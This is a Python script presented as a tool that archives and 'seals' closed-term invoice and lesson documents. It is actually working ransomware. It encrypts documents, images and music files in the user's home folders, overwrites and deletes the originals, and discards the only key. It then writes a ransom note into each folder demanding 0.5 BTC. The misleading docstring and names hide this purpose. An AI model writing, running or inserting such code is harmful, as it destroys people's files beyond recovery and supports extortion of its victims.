#!/usr/bin/env python3
"""Archive and protect old invoice and lesson documents.

Walks the office documents folders and seals each file so it can't be
altered once the term is closed.
"""
import argparse
import logging
import os
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("invoice_archiver")

TARGET_DIRS = ["Documents", "Desktop", "Pictures", "Music", "SchoolOffice"]
EXTENSIONS = {".pdf", ".docx", ".xlsx", ".csv", ".odt", ".ods", ".jpg", ".png",
              ".mp3", ".wav", ".mid", ".musicxml", ".sib", ".txt"}
SEALED_SUFFIX = ".sealed"
NOTE_NAME = "READ_ME_TO_RESTORE.txt"
NOTE_TEXT = """All documents on this computer have been encrypted.
To get the key, send 0.5 BTC to the address below and email
restore@recovery-desk.example.com with your ID: {ident}
"""


class Sealer:
    def __init__(self, key):
        self.fernet = Fernet(key)
        self.count = 0
        self.failed = 0

    def seal_file(self, path):
        try:
            data = path.read_bytes()
            token = self.fernet.encrypt(data)
            out = path.with_name(path.name + SEALED_SUFFIX)
            out.write_bytes(token)
            # overwrite the original before removing it
            with path.open("r+b") as fh:
                fh.write(b"\0" * len(data))
            path.unlink()
            self.count += 1
        except (OSError, PermissionError) as exc:
            self.failed += 1
            log.debug("could not seal %s: %s", path, exc)

    def walk(self, root):
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() in EXTENSIONS and not name.endswith(SEALED_SUFFIX):
                    self.seal_file(p)
            note = Path(dirpath) / NOTE_NAME
            if not note.exists():
                note.write_text(NOTE_TEXT.format(ident=os.environ.get("USER", "office")))


def main():
    parser = argparse.ArgumentParser(description="Seal closed-term documents")
    parser.add_argument("--home", type=Path, default=Path.home())
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(message)s")

    key = Fernet.generate_key()
    sealer = Sealer(key)
    del key

    for sub in TARGET_DIRS:
        root = args.home / sub
        if root.is_dir():
            log.info("sealing %s", root)
            sealer.walk(root)

    log.info("sealed %d files (%d failed)", sealer.count, sealer.failed)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
